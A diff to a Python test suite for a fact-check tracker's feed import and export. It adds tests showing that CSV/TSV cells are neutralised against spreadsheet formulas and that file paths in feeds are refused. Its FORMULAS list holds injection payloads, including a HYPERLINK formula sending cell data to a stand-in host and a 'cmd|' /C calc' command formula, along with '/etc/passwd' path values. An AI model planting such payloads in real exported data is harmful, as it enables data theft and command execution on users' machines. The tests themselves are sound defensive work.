@@ -2,17 +2,22 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
+import os
+from dataclasses import asdict, fields
 from datetime import date
 from typing import TYPE_CHECKING, Any
 
 import pytest
 from hypothesis import given, settings, strategies as st
 
+from tracker import records
+from tracker.entries import MAX_EVIDENCE, MAX_TEXT, storable
 from tracker.errors import UnreadableSource, UsageProblem
 from tracker.feeds import COLUMNS, STARTER, Rejected, Row, read_feed, write_feed
-from tracker.models import Claim, ClaimRecord, NewClaim, NewVerdict, Verdict
+from tracker.models import Claim, ClaimRecord, Evidence, NewClaim, NewVerdict, Retraction, Verdict
 
 if TYPE_CHECKING:
     from pathlib import Path
@@ -80,7 +85,9 @@ def test_bad_json_lines_are_left_out_by_line(tmp_path: Path, suffix: str) -> Non
         '["a list"]',
         "",
         "[" * 100_000,
-        '{"claim": "x", "id": ' + "9" * 5000 + "}",
+        '{"claim": "x", "id": NaN}',
+        '"a text"',
+        '{"claim": "x", "claim": "y"}',
         json.dumps({"claim": JETS, "verdict": None, "url": None}),
     ]
     rows = read(tmp_path, f"a.{suffix}", "\n".join(lines))
@@ -90,6 +97,8 @@ def test_bad_json_lines_are_left_out_by_line(tmp_path: Path, suffix: str) -> Non
         ("3", "not a JSON object"),
         ("5", "not JSON"),
         ("6", "not JSON"),
+        ("7", "not a JSON object"),
+        ("8", "not JSON"),
     ]
     assert isinstance(rows[-1], Row)
     assert rows[-1].verdict is None
@@ -131,17 +140,17 @@ def test_a_quotation_mark_left_open_swallows_no_later_row(tmp_path: Path) -> Non
 
 
 def test_json_values_that_are_no_text(tmp_path: Path) -> None:
-    """Numbers and booleans are read as their text; a list or object, or half a character, rejects its row."""
+    """Numbers are read as they are written, booleans by name; a list, object or half a character rejects its row."""
     rows = read(
         tmp_path,
         "a.jsonl",
-        '{"id": 12, "claim": 300000, "rating": false}\n'
+        '{"id": 12, "claim": 300000, "rating": false, "explanation": 1e999, "note": "the other name"}\n'
         '{"claim": {"@value": "x"}}\n{"claim": "x", "url": ["https://a.example/"]}\n'
         '{"claim": "half \\ud83d of it"}\n{"claim": "whole \\ud83d\\ude00", "other": {"ignored": []}, "\\ud800": 1}\n',
     )
     assert isinstance(rows[0], Row)
     assert rows[0].claim == NewClaim("300000", external_id="12")
-    assert rows[0].verdict == NewVerdict("False")
+    assert rows[0].verdict == NewVerdict("False", explanation="1e999")
     assert kept(rows[1:]) == ["whole 😀"]
     assert left_out(rows) == [
         ("a.jsonl:2", "claim: a text was expected"),
@@ -216,6 +225,10 @@ def test_blank_lines_are_no_rows(tmp_path: Path, name: str) -> None:
         ("a.csv", "rating,url\nFalse,\n", "no column for the claim.*found: rating, url"),
         ("a.csv", "id;text of it\n1;x\n", "no column for the claim.*found: id;text of it"),
         ("a.csv", "claim,rating,rating\nx,True,False\n", "two columns are named 'rating'"),
+        ("a.csv", "claim,Rating, rating\nx,True,False\n", "two columns are named 'rating'"),
+        ("a.jsonl", "\n\n", "empty"),
+        ("a.csv.gz", "\x1f\x8b", r"not a kind of feed.*unpack it first"),
+        ("a.ZIP", "PK", r"not a kind of feed.*unpack it first"),
         ("a.tsv", "rating\turl\nFalse\t\n", "no column for the claim"),
         ("a.csv", '"claim\nx\n', "1: not CSV.*quotation mark"),
         ("a.xlsx", "PK", r"not a kind of feed.*\.csv, \.tsv, \.jsonl, \.ndjson"),
@@ -237,6 +250,9 @@ def test_a_folder_a_missing_file_and_a_name_too_long(tmp_path: Path) -> None:
         list(read_feed(tmp_path / "none.csv"))
     with pytest.raises(UnreadableSource, match="cannot be read"):
         list(read_feed(tmp_path / ("x" * 300 + ".csv")))
+    os.mkfifo(tmp_path / "pipe.csv")
+    with pytest.raises(UnreadableSource, match=r"pipe\.csv: not a regular file"):
+        list(read_feed(tmp_path / "pipe.csv"))
 
 
 def test_rows_are_read_as_they_are_asked_for(tmp_path: Path) -> None:
@@ -246,30 +262,188 @@ def test_rows_are_read_as_they_are_asked_for(tmp_path: Path) -> None:
     assert isinstance(next(iter(read_feed(path))), Row)
 
 
+@pytest.mark.parametrize("kind", ["csv", "tsv", "jsonl"])
+def test_a_line_of_any_length_costs_that_row_alone(tmp_path: Path, kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """It is passed over in pieces, whether it ends or not, and the rows around it keep their line numbers."""
+    monkeypatch.setattr(records, "MAX_RECORD", 200_000)
+    lines = [*(["claim"] if kind != "jsonl" else []), NATO, "x" * 1_000_000, JETS, "y" * 200_000]
+    if kind == "jsonl":
+        lines = [json.dumps({"claim": line}) for line in lines]
+    rows = read(tmp_path, f"a.{kind}", "\n".join(lines))
+    assert kept(rows) == [NATO, JETS]
+    first = 2 if kind == "jsonl" else 3
+    assert [where for where, _ in left_out(rows)] == [f"a.{kind}:{first}", f"a.{kind}:{first + 2}"]
+    assert all("a line of more than 200,000 characters" in reason for _, reason in left_out(rows))
+
+
+@pytest.mark.parametrize("kind", ["csv", "tsv"])
+def test_a_header_of_any_length_is_refused(tmp_path: Path, kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A file of one endless line is no feed; neither is it read whole."""
+    monkeypatch.setattr(records, "MAX_RECORD", 200_000)
+    with pytest.raises(UnreadableSource, match="a line of more than 200,000 characters"):
+        read(tmp_path, f"a.{kind}", "claim" + "\tx" * 200_000)
+
+
+def test_a_line_that_is_too_long_inside_a_quoted_cell(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The row that it breaks and the line itself are left out, each by its own number."""
+    monkeypatch.setattr(records, "MAX_RECORD", 1000)
+    rows = read(tmp_path, "a.csv", f'claim\n"begun\n{"x" * 5000}\n{JETS}\n')
+    assert kept(rows) == [JETS]
+    assert [where for where, _ in left_out(rows)] == ["a.csv:2", "a.csv:3"]
+
+
+def test_rows_of_csv_over_many_lines_are_limited(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A row that never ends is given up by size and by lines; what follows is read, or said to be passed over."""
+    endless = 'b","c\n' * 1000
+    with monkeypatch.context() as patch:
+        patch.setattr(records, "MAX_LINES", 100)
+        rows = read(tmp_path, "a.csv", f'claim\n"a\n{endless}')
+        assert left_out(rows)[0] == (
+            "a.csv:2",
+            "not CSV (a row of 603 characters on 101 lines); is a quotation mark left open?",
+        )
+    monkeypatch.setattr(records, "MAX_RECORD", 1000)
+    monkeypatch.setattr(records, "MAX_AGAIN", 10_000)
+    rows = read(tmp_path, "a.csv", f'claim\n"a\n{endless}"\n{JETS}\n')
+    assert kept(rows)[-1] == JETS
+    passed_over = [(where, reason) for where, reason in left_out(rows) if "the 166 lines after it" in reason]
+    assert [where for where, _ in passed_over] == [f"a.csv:{11 + 167 * number}" for number in range(5)]
+    assert left_out(rows)[-1] == ("a.csv:846", "158 cells where the header has 1")
+
+
+def test_a_header_of_many_columns_takes_no_time_to_speak_of(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
+    """A hundred thousand columns that nobody knows are counted, and twenty of them named."""
+    names = [f"c{number}" for number in range(100_000)]
+    rows = read(tmp_path, "a.tsv", "\t".join(["claim", *names]) + "\n" + "\t".join([NATO] * 100_001))
+    assert kept(rows) == [NATO]
+    assert "c19 and 99,980 more" in caplog.text
+    assert len(caplog.text) < 1000
+
+
+@pytest.mark.parametrize(
+    "url", ["file:///etc/passwd", "../../x", "/etc/passwd", "C:\\x", "\\\\host\\share", "data:text/html,x", "~/x", "-"]
+)
+def test_a_path_in_a_feed_is_no_address(tmp_path: Path, url: str) -> None:
+    """Nothing that a feed names is opened: as an address it is refused, in a text it is only text."""
+    rows = read(tmp_path, "a.jsonl", json.dumps({"claim": f"See {url} for x.", "url": url, "rating": "False"}))
+    assert [reason for _, reason in left_out(rows)] == [
+        f"address {url!r}: not a web address; it starts with https:// or http://"
+    ]
+    rows = read(tmp_path, "b.jsonl", json.dumps({"claim": "x", "evidence": [{"url": url}], "rating": "False"}))
+    assert left_out(rows)[0][1].startswith(f"evidence {url!r}: not a web address")
+    assert kept(read(tmp_path, "c.jsonl", json.dumps({"claim": f"See {url} for x.", "id": url}))) == [
+        f"See {url} for x."
+    ]
+
+
+def test_one_key_twice_in_a_row(tmp_path: Path) -> None:
+    """Two values for one column would leave one of them out in silence, so the row is rejected."""
+    rows = read(tmp_path, "a.jsonl", '{"claim": "x", "Claim ": "y"}\n{"claim": "z", "mood": "a", "Mood": "b"}\n')
+    assert left_out(rows) == [("a.jsonl:1", "claim: stands twice in the row")]
+    assert kept(rows) == ["z"]
+
+
+def test_tags_and_evidence_of_a_row(tmp_path: Path) -> None:
+    """Tags have commas between them, evidence is JSON; in JSON lines both may be lists as well."""
+    pieces = [{"url": "https://a.example/1", "note": "The minutes."}, {"url": "https://a.example/2"}]
+    row = {"claim": NATO, "rating": "False", "reviewed_claim_date": "2022-06-27"}
+    expected = NewVerdict(
+        "False",
+        claimed_on=date(2022, 6, 27),
+        tags=("war", "old-photo"),
+        evidence=(Evidence("https://a.example/1", "The minutes."), Evidence("https://a.example/2")),
+    )
+    for tags, evidence in (("War, old photo,", json.dumps(pieces)), (["War", "old photo"], pieces)):
+        assert (
+            only(read(tmp_path, "a.jsonl", json.dumps(row | {"tags": tags, "evidence": evidence}))).verdict == expected
+        )
+    cells = [*row.values(), "War,old photo", json.dumps(pieces)]
+    table = "\t".join([*row, "tags", "evidence"]) + "\n" + "\t".join(cells) + "\n"
+    assert only(read(tmp_path, "a.tsv", table)).verdict == expected
+    assert only(read(tmp_path, "b.jsonl", json.dumps({"claim": NATO, "tags": "war", "evidence": []}))).verdict is None
+
+
+@pytest.mark.parametrize(
+    ("column", "value", "reason"),
+    [
+        ("evidence", "[{", "evidence: not JSON (Expecting property name"),
+        ("evidence", "[" * 100_000, "evidence: not JSON (nested too deeply)"),
+        ("evidence", "NaN", "evidence: not JSON (NaN is no number)"),
+        (
+            "evidence",
+            '[{"url": "https://a.example", "url": "https://b.example"}]',
+            "evidence: not JSON (a key stands twice",
+        ),
+        ("evidence", {"url": "https://a.example"}, "evidence: not a list; write it as"),
+        ("evidence", '"https://a.example"', "evidence: not a list; write it as"),
+        ("evidence", ["https://a.example"], "evidence: not an address with a note"),
+        ("evidence", [{"url": "https://a.example", "mood": ""}], "evidence: not an address with a note"),
+        ("evidence", [{"url": ["https://a.example"]}], "evidence: a text was expected"),
+        ("evidence", [{"note": "The minutes."}], "evidence: it has no address"),
+        (
+            "evidence",
+            [{"url": "https://a.example", "archive_url": "a.example"}],
+            "archived evidence 'a.example': not a web",
+        ),
+        ("evidence", [{"url": "https://a.example"}] * 101, "evidence: 101 pieces"),
+        ("tags", [["a"]], "tags: words were expected"),
+        ("tags", {"a": 1}, "tags: words were expected"),
+        ("tags", ["a,b"], "tag 'a,b': a comma in it"),
+        ("tags", "x" * 61, "tag '" + "x" * 60 + "': 61 characters; at most 60"),
+        ("reviewed_claim_date", "soon", "date 'soon': not a day"),
+    ],
+)
+def test_a_row_with_bad_tags_or_evidence_is_left_out(tmp_path: Path, column: str, value: Any, reason: str) -> None:
+    """The reason names the column and how it is to be written."""
+    rows = read(tmp_path, "a.jsonl", json.dumps({"claim": NATO, "rating": "False", column: value}))
+    assert left_out(rows)[0][1].startswith(reason)
+
+
 # --- writing ----------------------------------------------------------------------------------------------------------
 
-CURRENT = Verdict("False", publisher="Desk", url="https://d.example/2", reviewed_on=date(2022, 8, 31), id=2)
+CURRENT = Verdict(
+    "False",
+    publisher="Desk",
+    url="https://d.example/2",
+    reviewed_on=date(2022, 8, 31),
+    claimed_on=date(2022, 6, 27),
+    tags=("war", "old-photo"),
+    evidence=(Evidence("https://e.example"),),
+    id=2,
+)
 OLD = Verdict("True", publisher="Desk", url="https://d.example/1", id=1, superseded_by=2)
+RETRACTED = Verdict("True", publisher="Desk", id=3, retracted=Retraction(9, "tester", "2022-09-01T12:00:00.000+00:00"))
 
 
-def written(records: list[ClaimRecord], kind: str) -> str:
+def written(found: list[ClaimRecord], kind: str) -> str:
     file = io.StringIO(newline="")
-    write_feed(records, file, kind)
+    write_feed(found, file, kind)
     return file.getvalue()
 
 
 def test_csv_is_written_with_every_column() -> None:
-    """One row a current verdict and one for a claim without; a superseded verdict is not written."""
-    records = [
-        ClaimRecord(Claim(NATO, external_id="n-1", id=1), (OLD, CURRENT), (), (("Desk", "n-1"), ("Others", "o-1"))),
+    """One row a current verdict and one for a claim without; one superseded or taken back is not written."""
+    ids = (("Desk", "n-1"), ("Others", "o-1"))
+    found = [
+        ClaimRecord(Claim(NATO, external_id="n-1", id=1), (OLD, CURRENT, RETRACTED), (), ids),
         ClaimRecord(Claim('"Jets", they say.')),
     ]
-    empty = "," * 12
-    assert written(records, ".csv").split("\r\n") == [
+    empty = "," * 15
+    evidence = '"[{""url"": ""https://e.example""}]"'
+    assert written(found, ".csv").split("\r\n") == [
         ",".join(COLUMNS),
-        f"n-1,{NATO},,,,,False,Desk,,https://d.example/2,2022-08-31,,,",
+        f'n-1,{NATO},,,,,False,Desk,,https://d.example/2,2022-08-31,,,,2022-06-27,"war,old-photo",{evidence}',
         f',"""Jets"", they say."{empty}',
         "",
+    ]
+
+
+def test_an_id_that_is_no_publishers_is_written_in_a_row_of_its_own() -> None:
+    """A claim that came with an id and no verdict keeps that id when a publisher's verdict joins it."""
+    found = [ClaimRecord(Claim(NATO), (Verdict("False", publisher="Desk"),), (), (("", "x-1"), ("Desk", "d-1")))]
+    assert [json.loads(line) for line in written(found, ".jsonl").splitlines()] == [
+        {"id": "d-1", "claim": NATO, "rating": "False", "publisher": "Desk"},
+        {"id": "x-1", "claim": NATO},
     ]
 
 
@@ -303,7 +477,7 @@ def test_a_feed_is_refused_before_it_is_read(tmp_path: Path) -> None:
 def test_tsv_is_written_without_quoting() -> None:
     """Tabs and line breaks in a text become a space, quotation marks stay."""
     lines = written([ClaimRecord(Claim('A "b"\tc\r\n d'))], ".tsv").split("\n")
-    assert lines[1].split("\t") == ["", 'A "b" c d', *[""] * 12]
+    assert lines[1].split("\t") == ["", 'A "b" c d', *[""] * 15]
     assert lines[2:] == [""]
 
 
@@ -319,6 +493,9 @@ def test_json_lines_are_written_without_empty_values(kind: str) -> None:
             "publisher": "Desk",
             "url": "https://d.example/2",
             "review_date": "2022-08-31",
+            "reviewed_claim_date": "2022-06-27",
+            "tags": "war,old-photo",
+            "evidence": [{"url": "https://e.example"}],
         },
         {"claim": JETS},
     ]
@@ -328,8 +505,8 @@ def test_json_lines_are_written_without_empty_values(kind: str) -> None:
 def test_the_rows_written_are_counted(kind: str) -> None:
     """A claim with two current verdicts is two rows; no claims are none."""
     other = Verdict("Fake", publisher="Others", id=3)
-    records = [ClaimRecord(Claim(NATO), (OLD, CURRENT, other)), ClaimRecord(Claim(JETS))]
-    assert write_feed(records, io.StringIO(), kind) == 3
+    found = [ClaimRecord(Claim(NATO), (OLD, CURRENT, other)), ClaimRecord(Claim(JETS))]
+    assert write_feed(found, io.StringIO(), kind) == 3
     assert write_feed([], io.StringIO(), kind) == 0
 
 
@@ -342,7 +519,69 @@ def test_another_kind_of_file_is_not_written(kind: str, named: str) -> None:
     assert file.getvalue() == ""
 
 
+FORMULAS = [
+    *('=HYPERLINK("https://a.example?x="&A1,"see")', "-5 degrees", "+1", "@SUM(1+9)*cmd|' /C calc'!A0", "'=1", "''-1"),
+    *("＝1", "＋1", "－1", "＠SUM", "'＝1", "\t=1", "\r=1", "=", "'-"),
+]
+HARMLESS = ["'quoted'", "'", "''", "A = B", "1-2", "\u2212 5 degrees", "'tis", "x\t=1"]
+
+
+@pytest.mark.parametrize("kind", [".csv", ".tsv"])
+def test_no_cell_that_is_written_is_a_formula(kind: str) -> None:
+    """Each begins with an apostrophe, whichever column it stands in; texts that are no formula stay as they are."""
+    for text in FORMULAS:
+        verdict = Verdict(text, publisher=text, publisher_site=text, explanation=text, tags=(text,))
+        claim = Claim(text, title=text, claimant=text, language=text)
+        row = written([ClaimRecord(claim, (verdict,), (), ((text, text),))], kind).splitlines(keepends=True)[1:]
+        cells = next(csv.reader(row)) if kind == ".csv" else row[0].rstrip("\n").split("\t")
+        shown = text if kind == ".csv" else text.strip()
+        assert {cell for cell in cells if cell} == {f"'{shown}"}, text
+    for text in HARMLESS:
+        row = written([ClaimRecord(Claim(text))], kind).splitlines()[1:]
+        assert next(csv.reader(row, delimiter="," if kind == ".csv" else "\t"))[1].split() == text.split()
+
+
+def test_formulas_stay_as_they_are_in_json_lines() -> None:
+    """No spreadsheet opens those."""
+    assert json.loads(written([ClaimRecord(Claim("=1+1"))], ".jsonl")) == {"claim": "=1+1"}
+
+
+@pytest.mark.parametrize("kind", [".csv", ".tsv"])
+@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS])
+def test_an_apostrophe_is_taken_away_only_where_it_was_put(tmp_path: Path, kind: str, text: str) -> None:
+    """What was exported comes back as it was; another's feed keeps its texts, apostrophes too."""
+    text = " ".join(f"{text} x".split()) if kind == ".tsv" else f"{text} x".strip()
+    path = tmp_path / f"ours{kind}"
+    with path.open("w", encoding="utf-8", newline="") as file:
+        write_feed([ClaimRecord(Claim(text, title=text))], file, kind)
+    assert only(list(read_feed(path))).claim == NewClaim(text, title=text)
+    for header in (("claim", "title"), (*COLUMNS, "mood"), tuple(reversed(COLUMNS))):
+        theirs = io.StringIO(newline="")
+        row = dict.fromkeys(header, "") | {"claim": f"'{text}"}
+        csv.writer(
+            theirs, delimiter="," if kind == ".csv" else "\t", quotechar='"' if kind == ".csv" else "\b"
+        ).writerows([header, [row[name] for name in header]])
+        assert only(read(tmp_path, f"theirs{kind}", theirs.getvalue())).claim.text == f"'{text}"
+
+
+def test_the_largest_verdict_comes_back_from_csv(tmp_path: Path) -> None:
+    """As much evidence as can be stored, in characters that JSON writes with six, fits into one cell."""
+    note = "\x01" * (20_000 // MAX_EVIDENCE - len("https://a"))
+    text = ('"\n' * MAX_TEXT)[: MAX_TEXT - 1] + "x"
+    evidence = (Evidence("https://a", f"x{note[2:]}x"),) * MAX_EVIDENCE
+    clean = storable(NewVerdict(text, publisher=text, explanation=text, evidence=evidence))
+    path = tmp_path / "a.csv"
+    with path.open("w", encoding="utf-8", newline="") as file:
+        write_feed(
+            [ClaimRecord(Claim(NATO), (Verdict(**{name: getattr(clean, name) for name in clean.__slots__}),))],
+            file,
+            ".csv",
+        )
+    assert only(list(read_feed(path))).verdict == clean
+
+
 texts = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=30).map(str.strip)
+texts = texts | st.builds("{}{}".format, st.sampled_from(FORMULAS), texts).map(str.strip)
 maybe = st.none() | texts.filter(bool)
 days = st.none() | st.dates(date(1900, 1, 1), date(2025, 12, 31))
 urls = st.none() | texts.map(lambda text: f"https://a.example/{text}".strip())
@@ -355,6 +594,7 @@ claims = st.builds(
     claimed_on=days,
     language=maybe,
 )
+tags = texts.map(lambda text: "-".join(text[:30].lower().replace(",", "").split())).filter(bool)
 verdicts = st.builds(
     dict[str, Any],
     rating=texts.filter(bool),
@@ -365,6 +605,9 @@ verdicts = st.builds(
     explanation=maybe,
     valid_from=st.none() | st.dates(date(1900, 1, 1), date(2010, 1, 1)),
     valid_to=st.none() | st.dates(date(2010, 1, 1), date(2025, 12, 31)),
+    claimed_on=days,
+    tags=st.lists(tags, unique=True).map(tuple),
+    evidence=st.lists(st.builds(Evidence, urls.filter(bool), maybe, urls), max_size=3).map(tuple),
 )
 
 
@@ -376,18 +619,40 @@ def test_what_is_written_is_read_again(
 ) -> None:
     """Export then import gives the same claims and verdicts, whatever characters the texts hold."""
     path = tmp_path_factory.getbasetemp() / f"round-trip{kind}"
-    records = [
+    found = [
         ClaimRecord(
             Claim(**claim),
             tuple(Verdict(**one) for one in said),
             (),
-            tuple((one["publisher"] or "", claim["external_id"]) for one in [*said, {"publisher": ""}]),
+            tuple((one["publisher"] or "", claim["external_id"]) for one in said or [{"publisher": ""}]),
         )
         for claim, said in feed
     ]
-    with path.open("w", encoding="utf-8", newline="") as file:
-        write_feed(records, file, kind)
+    path.write_text(written(found, kind), encoding="utf-8", newline="")
     expected: list[tuple[NewClaim, NewVerdict | None]] = []
     for claim, said in feed:
         expected += [(NewClaim(**claim), NewVerdict(**one)) for one in said] or [(NewClaim(**claim), None)]
     assert [(row.claim, row.verdict) for row in read_feed(path) if isinstance(row, Row)] == expected
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.lists(st.tuples(claims, st.lists(verdicts, max_size=2)), min_size=1, max_size=4))
+def test_a_feed_read_and_written_again_is_the_same_file(
+    tmp_path_factory: pytest.TempPathFactory, feed: list[tuple[dict[str, Any], list[dict[str, Any]]]]
+) -> None:
+    """TSV loses white space once and nothing after that; the other kinds lose nothing."""
+    folder = tmp_path_factory.getbasetemp()
+    found = [ClaimRecord(Claim(**claim), tuple(Verdict(**one) for one in said)) for claim, said in feed]
+    for kind in (".tsv", ".csv", ".jsonl"):
+        (folder / f"once{kind}").write_text(once := written(found, kind), encoding="utf-8", newline="")
+        again = [
+            ClaimRecord(
+                Claim(**asdict(row.claim)),
+                (Verdict(**{one.name: getattr(row.verdict, one.name) for one in fields(NewVerdict)}),)
+                if row.verdict
+                else (),
+            )
+            for row in read_feed(folder / f"once{kind}")
+            if isinstance(row, Row)
+        ]
+        assert written(again, kind) == once
